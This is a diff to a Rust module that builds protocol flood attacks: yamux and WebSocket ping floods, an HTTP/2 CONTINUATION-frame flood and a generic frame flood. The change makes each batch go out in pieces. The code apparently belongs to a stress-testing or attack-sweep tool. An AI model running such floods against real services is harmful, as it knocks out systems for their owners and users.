@@ -20,7 +20,7 @@ pub(super) fn pings(place: Place, protocol: Protocol) -> Option<Attack> {
                 let ping = yamux::Frame::bare(yamux::PING, yamux::SYN, 0, 7);
                 while !end.is_over() {
                     end.look().await;
-                    end.send(&ping.bytes().repeat(BATCH)).await;
+                    end.send_pieces(BATCH, &ping.bytes().repeat(BATCH)).await;
                     end.websocket(0x89, b"ping").await;
                 }
             })
@@ -79,7 +79,7 @@ pub(super) fn continuation(place: Place, protocol: Protocol) -> Option<Attack> {
                 let mut field = Vec::new();
                 crate::sweep::peer::literal(&mut field, "x-a", "v");
                 let more = Frame::new(Frame::CONTINUATION, 0, stream, &field).bytes();
-                while peer.send(more.repeat(BATCH)).await && !peer.is_over() {}
+                while peer.send_pieces(BATCH, &more.repeat(BATCH)).await && !peer.is_over() {}
             })
             .again(),
     })
@@ -91,7 +91,7 @@ fn flood(place: Place, protocol: Protocol, frame: fn(&Peer) -> Vec<u8>) -> Optio
         return None;
     }
     let send = async move |peer: &Peer| {
-        while !peer.is_over() && peer.send(frame(peer).repeat(BATCH)).await {
+        while !peer.is_over() && peer.send_pieces(BATCH, &frame(peer).repeat(BATCH)).await {
             tokio::task::yield_now().await;
         }
     };
